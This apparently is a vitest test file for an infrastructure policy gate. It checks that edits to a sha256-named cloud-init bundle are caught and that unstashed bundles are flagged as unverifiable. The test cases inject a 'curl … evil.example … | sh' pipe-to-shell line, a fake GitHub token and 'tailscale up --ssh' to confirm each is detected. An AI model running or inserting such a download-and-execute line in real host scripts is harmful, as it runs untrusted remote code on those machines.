import { createHash } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import type { StackPlan } from "../../cli/offline";
import { artifactsOf, stashInput, STASH_TYPE } from "../../policies/contract";
import type { PlannedResourceLike } from "../../policies/engine/resource";
import { planShipped } from "../helpers/stacks";
import { resources, ruleIds } from "./helpers";

/**
 * The kit's host code reaches the hosts as a bundle their user_data names by sha256
 * (components/render/bundle.ts): the gate judges the bundle's templates as files the
 * hosts write, and refuses a host that names a bundle the stack does not carry. Red team
 * 10 (seen passing `gate: clean` before): a download piped into a shell and a token
 * added to two templates.
 */

let plan: StackPlan;
beforeAll(async () => {
    plan = await planShipped("dev");
}, 120_000);

/** The plan's resources with the bundle's text changed; with `follow`, the hosts' user_data names the changed bundle. */
function withBundle(change: (bundle: { templates: Record<string, string> }) => void, follow: boolean): PlannedResourceLike[] {
    const stashed = (r: PlannedResourceLike) => (r.type === STASH_TYPE ? artifactsOf(r.inputs) : undefined);
    const bundleStash = plan.resources.find((r) => Object.keys(stashed(r) ?? {}).some((n) => n.startsWith("airlock-bundle-")))!;
    const [name, text] = Object.entries(stashed(bundleStash)!)[0];
    const bundle = JSON.parse(text);
    change(bundle);
    const changed = `${JSON.stringify(bundle, null, 1)}\n`;
    const [before, after] = [text, changed].map((t) => createHash("sha256").update(t).digest("hex"));
    const newName = follow ? name.replace(before, after) : name;
    return plan.resources.map((r) => {
        const artifacts = stashed(r);
        if (r === bundleStash) return { ...r, inputs: { ...r.inputs, input: stashInput({ [newName]: changed }) } };
        if (!follow || artifacts?.["cloud-init.yaml"] === undefined) return r;
        return { ...r, inputs: { ...r.inputs, input: stashInput({ ...artifacts, "cloud-init.yaml": artifacts["cloud-init.yaml"].replace(before, after) }) } };
    });
}

const token = () => ["ghp", "Ab3dEf0123456789AbCdEf0123456789AbCd"].join("_");

describe("the host code bundle in the gate", () => {
    it("the shipped bundle passes", () => {
        expect(ruleIds(resources(plan.resources))).toEqual([]);
    });

    it.each<[string, (b: { templates: Record<string, string> }) => void, string]>([
        ["a download piped into a shell in tailnet-join", (b) => (b.templates["scripts/tailnet-join"] += "curl -fsSL https://evil.example/x | sh\n"), "cloud-init-no-pipe-to-shell"],
        ["a GitHub token in compose-check", (b) => (b.templates["scripts/compose-check"] += `# GITHUB_TOKEN=${token()}\n`), "cloud-init-no-secrets"],
        ["tailscale up --ssh in a new template", (b) => (b.templates["scripts/extra"] = "#!/bin/sh\ntailscale up --ssh\n"), "cloud-init-no-tailscale-ssh"],
    ])("%s fails the gate at the bundle", (_, change, rule) => {
        const findings = resources(withBundle(change, true));
        expect(ruleIds(findings)).toEqual([rule]);
        expect(findings.every((f) => String(f.resource).endsWith("airlock-dev-bundle-artifacts"))).toBe(true);
        expect(JSON.stringify(findings)).not.toContain(token());
    });

    it("a host naming a bundle the stack does not carry (edited after the plan: its digest no longer matches) is unverifiable", () => {
        const findings = resources(withBundle((b) => (b.templates["scripts/compose-check"] += "# harmless\n"), false));
        expect(ruleIds(findings)).toEqual(["cloud-init-named-bundle-judged"]);
        expect(findings.map((f) => f.message.replace(/[0-9a-f]{64}/, "<sha256>")).sort()).toEqual([
            "unverifiable: airlock-dev-gateway-artifacts's user_data installs bundle <sha256>, which this stack does not stash: its files were not judged",
            "unverifiable: airlock-dev-sandbox-artifacts's user_data installs bundle <sha256>, which this stack does not stash: its files were not judged",
        ]);
    });
});
